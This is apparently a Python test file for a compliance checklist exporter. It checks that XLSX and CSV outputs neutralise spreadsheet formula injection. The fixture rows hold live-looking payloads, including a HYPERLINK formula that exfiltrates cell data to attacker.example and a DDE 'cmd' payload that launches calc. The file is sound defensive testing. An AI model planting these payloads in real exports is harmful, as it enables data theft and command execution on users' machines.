"""Exports never hand a spreadsheet a formula: text that starts with = + - @ stays text (no store needed)."""
from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from ui.export import ChecklistRow, render

EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"点击")'


def _rows():
    return [ChecklistRow(id="ob-1", key="pipl:0123456789", modality="obligation", requirement_zh=EVIL, requirement_en="+cmd|' /C calc'!A0",
                         provision_id="pipl/art29", citation="《个人信息保护法》第二十九条", clause="@SUM(1+1)",
                         owner="-2+3")]


def test_xlsx_cells_and_title_are_text_not_formulas():
    wb = load_workbook(io.BytesIO(render(_rows(), "xlsx", title="=cmd() 清单")))
    ws = wb["Register"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@"))]
    assert {c.value for c in risky} == {EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"}  # kept verbatim
    assert all(c.data_type == "s" for c in risky)
    title = next(r[1] for r in wb["About"].iter_rows() if r[0].value == "登记册 Register")
    assert title.value == "=cmd() 清单" and title.data_type == "s"


def test_csv_cells_are_neutralised():
    text = render(_rows(), "csv").decode("utf-8-sig")
    (header, row) = list(csv.reader(io.StringIO(text)))
    assert "'" + EVIL in row and "'@SUM(1+1)" in row and "'-2+3" in row
    assert not any(v.startswith(("=", "+", "-", "@")) for v in row)
